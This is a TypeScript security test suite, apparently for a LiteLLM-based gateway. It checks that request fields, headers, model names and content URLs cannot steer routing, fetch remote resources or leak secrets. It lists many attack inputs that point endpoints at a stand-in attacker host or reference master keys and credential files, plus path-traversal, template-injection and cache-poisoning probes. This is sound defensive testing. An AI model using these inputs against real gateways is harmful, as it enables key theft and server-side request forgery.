import {
  type AttackBox,
  bodyFor,
  CANARY,
  chat,
  complaints,
  each,
  type Kept,
  type Listener,
  type Name,
  notAnswered,
  notRefused,
  planted,
  testOn,
} from "./lab";

const EVIL = `http://${CANARY}:8000`;
const ENVIRONMENT = [
  "os.environ/LITELLM_MASTER_KEY",
  "os.environ/LITELLM_SALT_KEY",
  "os.environ/DATABASE_URL",
];

/** Parameters that tell LiteLLM, and not a model, what to do. One name may come with several values. */
const STEERING: [name: string, value: unknown][] = [
  ...[
    "api_base",
    "base_url",
    "api_url",
    "endpoint",
    "azure_endpoint",
    "proxy_url",
    "aws_bedrock_runtime_endpoint",
  ].map((name): [string, unknown] => [name, `${EVIL}/v1`]),
  ...["aws_sts_endpoint", "langfuse_host", "langfuse_otel_host", "langsmith_base_url", "posthog_api_url"].map(
    (name): [string, unknown] => [name, EVIL],
  ),
  ...[
    "slack_webhook_url",
    "alerting_webhook",
    "generic_api_endpoint",
    "s3_endpoint_url",
    "arize_endpoint",
  ].map((name): [string, unknown] => [name, EVIL]),
  ...ENVIRONMENT.flatMap((value): [string, unknown][] => [
    ["api_key", value],
    ["user", value],
    ["organization", value],
    ["extra_headers", { "x-stolen": value }],
    ["langfuse_public_key", value],
  ]),
  ["api_key", "sk-attacker"],
  ["api_version", "2020-01-01"],
  ["api_type", "azure"],
  ["organization", "attacker"],
  ["custom_llm_provider", "oobabooga"],
  ["custom_llm_provider", "baseten"],
  ["custom_llm_provider", "openai"],
  ["extra_headers", { Host: `${CANARY}:8000`, "x-attack": "1" }],
  ["headers", { Host: `${CANARY}:8000`, "x-attack": "1" }],
  ["default_headers", { "x-attack": "1" }],
  ["extra_query", { "x-attack": "1" }],
  ["extra_body", { api_base: EVIL, "x-attack": "1" }],
  [
    "user_config",
    {
      model_list: [
        { model_name: "far", litellm_params: { model: "openai/x", api_base: EVIL, api_key: "x" } },
      ],
    },
  ],
  [
    "model_list",
    [{ model_name: "far", litellm_params: { model: "openai/x", api_base: EVIL, api_key: "x" } }],
  ],
  ["litellm_params", { api_base: EVIL, api_key: "x" }],
  [
    "router_settings_override",
    { fallbacks: [{ far: ["openai/gpt-5"] }], model_group_alias: { far: "openai/x" } },
  ],
  ["fallbacks", [`oobabooga/${EVIL}`]],
  ["fallbacks", [{ far: ["openai/gpt-5"] }]],
  ["fallbacks", [{ model: "openai/x", api_base: EVIL, api_key: "x" }]],
  ["context_window_fallbacks", [{ far: ["openai/gpt-5"] }]],
  ["content_policy_fallbacks", [{ far: ["openai/gpt-5"] }]],
  ["context_window_fallback_dict", { far: "openai/gpt-5" }],
  ["default_fallbacks", ["openai/gpt-5"]],
  ["mock_response", "MOCKED"],
  ["mock_response", "litellm.InternalServerError"],
  ["mock_response", "litellm.RateLimitError"],
  ["mock_tool_calls", [{ id: "x", type: "function", function: { name: "MOCKED", arguments: "{}" } }]],
  ["mock_timeout", true],
  ["mock_delay", 20],
  ["mock_testing_fallbacks", true],
  ["mock_testing_context_fallbacks", true],
  ["mock_testing_content_policy_fallbacks", true],
  ["mock_testing_rate_limit_error", true],
  ["metadata", { langfuse_host: EVIL, langfuse_public_key: "x", langfuse_secret_key: "x" }],
  ["litellm_metadata", { langfuse_host: EVIL, model_group: "openai/x" }],
  ["langfuse_secret_key", "x"],
  ["langsmith_api_key", "x"],
  ["gcs_bucket_name", "attacker"],
  ["gcs_path_service_account", "/etc/passwd"],
  ["callbacks", ["langfuse"]],
  ["success_callback", ["langfuse"]],
  ["failure_callback", ["langfuse"]],
  ["logger_fn", "print"],
  ["input_cost_per_token", -1],
  ["output_cost_per_token", -1],
  ["specific_deployment", true],
  ["deployment_id", "x"],
  ["model_id", "x"],
  ["num_retries", 50],
  ["max_retries", 50],
  ["max_fallbacks", 50],
  ["timeout", 0.000_001],
  ["request_timeout", 0.000_001],
  ["stream_timeout", 0.000_001],
  ["force_timeout", 1],
  ["cooldown_time", 3600],
  ["ttl", 1_000_000],
  ["cache", { namespace: "gpubox", key: "x", ttl: 1_000_000 }],
  ["cache", { type: "redis", host: CANARY, port: 8000 }],
  ["caching", true],
  ["preset_cache_key", "x"],
  ["region_name", "us-east-1"],
  ["aws_region_name", "us-east-1"],
  ["aws_access_key_id", "x"],
  ["aws_secret_access_key", "x"],
  ["aws_session_token", "x"],
  ["aws_role_name", "x"],
  ["aws_profile_name", "x"],
  ["aws_web_identity_token", "oidc/file//etc/gpubox/gateway.env"],
  ["azure_ad_token", "oidc/file//etc/gpubox/gateway.env"],
  ["azure_ad_token", `oidc/env/LITELLM_MASTER_KEY`],
  ["azure_username", "x"],
  ["azure_scope", "x"],
  ["tenant_id", "x"],
  ["client_id", "x"],
  ["client_secret", "x"],
  ["vertex_credentials", "/etc/gpubox/gateway.env"],
  ["vertex_project", "x"],
  ["vertex_location", "x"],
  ["watsonx_region_name", "x"],
  ["litellm_credential_name", "x"],
  ["proxy_server_request", { url: EVIL, method: "POST", headers: {}, body: {} }],
  ["litellm_call_id", "x"],
  ["litellm_trace_id", "x"],
  ["litellm_session_id", "x"],
  ["litellm_logging_obj", { model: "x" }],
  ["litellm_request_debug", true],
  ["secret_fields", { raw_headers: {} }],
  ["prompt_id", "../../etc/passwd"],
  ["prompt_variables", { x: "{{ ''.__class__ }}" }],
  ["prompt_label", "x"],
  ["guardrails", ["x"]],
  ["guardrail_config", { x: EVIL }],
  ["disable_global_guardrails", true],
  ["tags", ["x"]],
  ["user_api_key", "x"],
  ["user_api_key_dict", { user_role: "proxy_admin" }],
  ["allowed_model_region", "eu"],
  ["ssl_verify", false],
  ["client", "x"],
  ["shared_session", "x"],
  ["use_in_pass_through", true],
  ["use_litellm_proxy", true],
  ["litellm_proxy_api_base", EVIL],
  ["model_info", { id: "x", mode: "responses" }],
  ["model_alias_map", { far: "openai/gpt-5" }],
  ["model_group_alias", { far: "openai/gpt-5" }],
  ["hf_model_name", "attacker/model"],
  ["custom_prompt_dict", { far: { roles: {} } }],
  ["initial_prompt_value", "x"],
  ["roles", { system: { pre_message: "x" } }],
  ["final_prompt_value", "x"],
  ["bos_token", "x"],
  ["eos_token", "x"],
  ["allowed_openai_params", ["api_base"]],
  ["additional_drop_params", ["messages"]],
  ["drop_params", false],
  ["no-log", true],
  ["no_log", true],
  ["turn_off_message_logging", true],
  ["litellm_disabled_callbacks", ["gpubox_trajectory"]],
  ["standard_callback_dynamic_params", { langfuse_host: EVIL }],
  ["enable_json_schema_validation", true],
  ["original_function", "x"],
  ["attempted_retries", 1],
  ["acompletion", false],
  ["async_call", false],
  ["kwargs", { api_base: EVIL }],
  ["__class__", "x"],
  ["stream_options", { include_usage: true, api_base: EVIL }],
  ["web_search_options", { search_context_size: "low" }],
  ["tools", [{ type: "mcp", server_label: "x", server_url: `${EVIL}/mcp`, require_approval: "never" }]],
  [
    "tools",
    [{ type: "mcp", server_label: "x", server_url: "litellm_proxy/mcp/x", require_approval: "never" }],
  ],
  ["tools", [{ type: "file_search", vector_store_ids: ["x"] }]],
  ["tools", [{ type: "web_search_preview" }]],
  ["tools", [{ type: "code_interpreter", container: { type: "auto" } }]],
  ["vector_store_ids", ["x"]],
  ["file_ids", ["x"]],
  ["previous_response_id", responseId("openai", "x", "resp_1")],
];

/** Names of models that would be addresses, other providers, or another's deployment. */
const MODELS = [
  ...[`oobabooga/${EVIL}`, `openai/${EVIL}`, `hosted_vllm/${EVIL}`, `custom/${EVIL}`, `ollama/${EVIL}`, EVIL],
  ...[
    "openai/far",
    "hosted_vllm/far",
    "baseten/abcd1234",
    "openai/gpt-5",
    "anthropic/claude-5",
    "huggingface/x/y",
  ],
  ...[
    "openrouter/x",
    "bedrock/x",
    "sagemaker/x",
    "vertex_ai/x",
    "azure/x",
    "litellm_proxy/x",
    "far@http://x",
    "*",
  ],
  ...[
    "openai/*",
    "gemini/x",
    "groq/x",
    "../far",
    "far\0",
    "far\n",
    "",
    "os.environ/LITELLM_MASTER_KEY",
    "x".repeat(5_000),
  ],
];

/** Contents that name another place: a model server may fetch them, the gateway may not. */
const CONTENTS: unknown[] = [
  [{ type: "image_url", image_url: { url: `${EVIL}/a.png` } }],
  [{ type: "image_url", image_url: `${EVIL}/a.png` }],
  [{ type: "image_url", image_url: { url: "file:///etc/gpubox/gateway.env" } }],
  [{ type: "input_image", image_url: `${EVIL}/a.png` }],
  [{ type: "image", source: { type: "url", url: `${EVIL}/a.png` } }],
  [{ type: "document", source: { type: "url", url: `${EVIL}/a.pdf` } }],
  [{ type: "file", file: { file_id: "x", file_data: `${EVIL}/a.pdf` } }],
  [{ type: "file", file: { file_id: "file:///etc/gpubox/gateway.env" } }],
  [{ type: "file", file: { file_id: `${EVIL}/a.pdf` } }],
  [{ type: "input_file", file_url: `${EVIL}/a.pdf` }],
  [{ type: "video_url", video_url: { url: `${EVIL}/a.mp4` } }],
  [{ type: "audio_url", audio_url: { url: `${EVIL}/a.wav` } }],
  [{ type: "input_audio", input_audio: { data: EVIL, format: "wav" } }],
];

const ROUTES = ["/v1/chat/completions", "/v1/messages", "/v1/completions", "/v1/responses", "/v1/embeddings"];

/** Bodies that tell the gateway what only its owner may tell it. */
export function steeringAttacks(box: () => AttackBox, on: Name[]): void {
  /** Every wrong thing about an answer and what the upstream was asked for it. */
  const judged = async (to: Listener, path: string, about: object, label: string) => {
    const answer = await box().post(to, path, about);
    const stolen = Object.entries(planted).find(([, value]) => answer.body.includes(value));
    if (stolen) return [label, `the answer has ${stolen[0]}`] as [string, string];
    if (/MOCKED|CANARY/.test(answer.body))
      return [label, `another one answered: ${answer.body.slice(0, 160)}`] as [string, string];
    return [label, notAnswered(answer)] as [string, string | undefined];
  };
  const nothingElse = async () => {
    const { requests } = await box().kept("upstream");
    expect(requests.flatMap((one) => strange(one))).toEqual([]);
  };

  testOn(
    on,
    ["clients", "clients with TLS", "admin", "job"],
    "no parameter of a body steers the gateway",
    async (name) => {
      const to = box().listener(name);
      await box().forget("upstream");
      // The others share the gateway, so that one route of each is enough to see that nothing lies between.
      const routes = name === "clients" || name === "job" ? ROUTES.slice(0, 4) : ROUTES.slice(0, 1);
      const attempts = routes.flatMap((path) =>
        STEERING.map(([field, value], n) => ({ path, field, value, n })),
      );
      const found = await each(attempts, ({ path, field, value, n }) => {
        const label = `${path} ${field}: ${JSON.stringify(value)}`;
        return judged(to, path, { ...bodyFor(to.model, path, `steer ${name} ${n}`), [field]: value }, label);
      });
      expect(complaints(found)).toEqual([]);
      await nothingElse();
    },
    120_000,
  );

  testOn(
    on,
    ["clients", "job"],
    "no content makes the gateway fetch, and no name is an address",
    async (name) => {
      const to = box().listener(name);
      await box().forget("upstream");
      const asked = CONTENTS.flatMap((content) =>
        ROUTES.slice(0, 4).map((path) => ({
          path,
          body: {
            ...bodyFor(to.model, path, "x"),
            messages: [{ role: "user", content }],
            input: [{ role: "user", content }],
          },
        })),
      );
      const named = MODELS.flatMap((model) =>
        ROUTES.map((path) => ({ path, body: { ...bodyFor(to.model, path, "x"), model } })),
      );
      const found = await each([...asked, ...named], ({ path, body }) =>
        judged(to, path, body, `${path} ${JSON.stringify(body).slice(0, 200)}`),
      );
      expect(complaints(found)).toEqual([]);
      await nothingElse();
    },
    120_000,
  );

  testOn(on, ["clients"], "a cache key of one's own reads nobody's answer and poisons none", async (name) => {
    const to = box().listener(name);
    const ask = (text: string, more: object) =>
      box().post(to, "/v1/chat/completions", chat("far", text, { ...more }));
    const said = (answer: { body: string }) => /echo: [\w ]*/.exec(answer.body)?.[0];
    for (const how of [
      { cache_key: "mine" },
      { cache: { key: "mine" } },
      { preset_cache_key: "mine" },
      { metadata: { cache_key: "mine" } },
    ]) {
      const name = JSON.stringify(how).replace(/\W+/g, " ").trim();
      const first = await ask(`one of ${name}`, how);
      const second = await ask(`two of ${name}`, how);
      expect(
        complaints([
          [name, notAnswered(first)],
          [name, notAnswered(second)],
        ]),
      ).toEqual([]);
      const texts = [said(first), said(second)].filter((text) => text !== undefined);
      expect(texts).toEqual([`echo: one of ${name}`, `echo: two of ${name}`].slice(2 - texts.length));
    }
  });

  testOn(on, ["clients"], "a cache key that is another's counter leaves it alone", async (name) => {
    const to = box().listener(name);
    const redis = async (...command: string[]) =>
      box().docker(
        "exec",
        box().container("cache"),
        "sh",
        "-c",
        `REDISCLI_AUTH="$(cat /etc/gpubox/password)" redis-cli ${command.join(" ")}`,
      );
    await redis("set", "attack:counter", "7");
    for (const key of ["attack:counter", "gpubox:attack:counter"])
      await box().post(to, "/v1/chat/completions", chat("far", `counter ${key}`, { cache_key: key }));
    expect(await redis("get", "attack:counter")).toBe("7");
    const keys = (await redis("--scan", "--pattern", "'*attack:counter*'")).split("\n");
    expect(keys).toEqual(["attack:counter"]);
  });

  testOn(on, ["clients", "job"], "a form, or a file, steers no more than JSON does", async (name) => {
    const to = box().listener(name);
    await box().forget("upstream");
    const form = new URLSearchParams({
      model: to.model,
      api_base: EVIL,
      messages: "[]",
      prompt: "x",
      input: "x",
    }).toString();
    const parts = Object.entries({
      model: to.model,
      api_base: EVIL,
      custom_llm_provider: "openai",
      extra_headers: '{"x-attack":"1"}',
    });
    const multipart = `${parts.map(([field, value]) => `--B\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`).join("")}--B\r\nContent-Disposition: form-data; name="file"; filename="../../a.wav"\r\nContent-Type: audio/wav\r\n\r\nRIFF\r\n--B--\r\n`;
    const paths = [...ROUTES, ...(name === "clients" ? ["/v1/audio/transcriptions"] : [])];
    const attempts = paths.flatMap((path) => [
      { path, type: "application/x-www-form-urlencoded", body: form },
      {
        path,
        type: "multipart/form-data; boundary=B",
        body: path.includes("audio") ? multipart.replace(`\r\n${to.model}\r\n`, "\r\nears\r\n") : multipart,
      },
      { path, type: "multipart/form-data", body: multipart },
      { path, type: "text/plain", body: JSON.stringify(bodyFor(to.model, path, "plain text")) },
      {
        path,
        type: "application/json; charset=utf-16",
        body: JSON.stringify(bodyFor(to.model, path, "utf-16")),
      },
      {
        path,
        type: "application/json",
        body: `${JSON.stringify(bodyFor(to.model, path, "x")).slice(0, -1)},"api_base":"${EVIL}","api_base":"${EVIL}"}`,
      },
      { path, type: "application/json", body: "[1,2]" },
      { path, type: "application/json", body: '"text"' },
      { path, type: "application/json", body: "null" },
      { path, type: "application/json", body: "{" },
      { path, type: "application/json", body: "" },
      { path, type: "application/json", body: `{"model":${"[".repeat(3_000)}${"]".repeat(3_000)}}` },
      { path, type: "application/json", body: JSON.stringify({ model: { api_base: EVIL } }) },
      {
        path,
        type: "application/json",
        body: JSON.stringify({ model: to.model, messages: "x", input: 1, prompt: {}, max_tokens: "x" }),
      },
      { path, type: "application/json", body: JSON.stringify({ model: to.model }) },
      { path, type: "application/json", body: `\xff\xfe{"model": "${to.model}"}` },
    ]);
    const found = await each(
      attempts,
      async ({ path, type, body }): Promise<[string, string | undefined]> => [
        `${path} ${type} ${JSON.stringify(body.slice(0, 80))}`,
        notAnswered(await box().ask(to, { method: "POST", path, headers: [`Content-Type: ${type}`], body })),
      ],
    );
    expect(complaints(found)).toEqual([]);
    await nothingElse();
  });

  testOn(on, ["clients", "job"], "no crafted id of an answer leads to a provider", async (name) => {
    const to = box().listener(name);
    await box().forget("upstream");
    const given = await box().post(to, "/v1/responses", bodyFor(to.model, "/v1/responses", `kept ${name}`));
    // Of the very server that answered, so that it would be asked.
    const server = given.headers["x-litellm-model-id"];
    expect([given.status, server]).toEqual([200, expect.stringMatching(/./)]);
    const ids = [
      ...["../models", "..", "?x", "x/../../y", "x#", "%2e%2e%2fmodels", "x;response_id:../models"].map(
        (part) => responseId("hosted_vllm", server ?? "", part),
      ),
      ...["openai", "azure", "oobabooga", "anthropic", "baseten", "hosted_vllm", "None"].map((provider) =>
        responseId(provider, "x", "resp_1"),
      ),
      ...[
        responseId("openai", "x", "../../files"),
        responseId("openai", EVIL, "x"),
        responseId("openai", "far", `?${EVIL}`),
      ],
      ...[
        "x",
        "resp_x",
        "resp_",
        "..%2f..%2ffiles",
        `resp_${btoa("litellm:x")}`,
        `resp_${btoa("\xff\xfe")}`,
        encodeURIComponent(EVIL),
      ],
    ];
    const attempts = ids.flatMap((id) => [
      ...["GET", "DELETE"].map((method) => ({ method, path: `/v1/responses/${id}`, body: undefined })),
      { method: "GET", path: `/v1/responses/${id}/input_items`, body: undefined },
      { method: "POST", path: `/v1/responses/${id}/cancel`, body: "{}" },
    ]);
    const found = await each(
      attempts,
      async ({ method, path, body }): Promise<[string, string | undefined]> => [
        `${method} ${path}`,
        notRefused(await box().ask(to, { method, path, headers: ["Content-Type: application/json"], body })),
      ],
    );
    expect(complaints(found)).toEqual([]);
    await nothingElse();
  });

  testOn(on, ["clients", "job"], "no header field of LiteLLM's own steers it", async (name) => {
    const to = box().listener(name);
    await box().forget("upstream");
    const fields = [
      ...[
        "x-litellm-api-base",
        "x-litellm-timeout",
        "x-litellm-num-retries",
        "x-litellm-tags",
        "x-litellm-spend-logs-metadata",
      ],
      ...[
        "x-litellm-disable-callbacks",
        "x-litellm-enable-message-redaction",
        "x-litellm-end-user-id",
        "x-litellm-call-id",
      ],
      ...[
        "x-goog-api-key",
        "x-pass-x-attack",
        "x-mcp-auth",
        "x-mcp-servers",
        "langfuse_host",
        "langfuse_trace_id",
        "openai-organization",
      ],
      ...[
        "anthropic-beta",
        "x-api-base",
        "llm_provider-x-attack",
        "x-attack",
        "x-stainless-helper",
        "forwarded",
        "x-real-ip",
      ],
    ];
    const found = await each(fields, async (field): Promise<[string, string | undefined]> => {
      const headers = [`${field}: ${EVIL}`, "Content-Type: application/json"];
      const body = JSON.stringify(chat(to.model, `field ${name} ${field}`));
      return [
        field,
        notAnswered(await box().ask(to, { method: "POST", path: "/v1/chat/completions", headers, body })),
      ];
    });
    expect(complaints(found)).toEqual([]);
    await nothingElse();
  });
}

const KNOWN_PATH =
  /^\/v1\/(chat\/completions|completions|embeddings|audio\/transcriptions|responses(\/[\w=-]+(\/(cancel|input_items))?)?)$/;

/** What the upstream's requests may not have: another's key, a secret, a field or a route of the attacker's. */
function strange({ path, headers, body, method }: Kept): string[] {
  const { authorization, host, ...others } = headers;
  const what = `${method} ${path}`;
  const secret = Object.entries(planted).find(
    ([, value]) => JSON.stringify(others).includes(value) || body.includes(value) || path.includes(value),
  );
  return [
    ...(authorization === `Bearer ${planted.farKey}` ? [] : [`${what}: authorization ${authorization}`]),
    ...(host === "gpubox-attack-upstream:8000" ? [] : [`${what}: host ${host}`]),
    ...(KNOWN_PATH.test(path) ? [] : [what]),
    ...(JSON.stringify(others).includes(CANARY) || "x-attack" in headers || "x-stolen" in headers
      ? [`${what}: ${JSON.stringify(others)}`]
      : []),
    ...(secret ? [`${what}: has ${secret[0]}`] : []),
  ];
}

/** An id of an answer, as LiteLLM encodes where the answer is. */
function responseId(provider: string, model: string, id: string): string {
  return `resp_${btoa(`litellm:custom_llm_provider:${provider};model_id:${model};response_id:${id}`)}`;
}
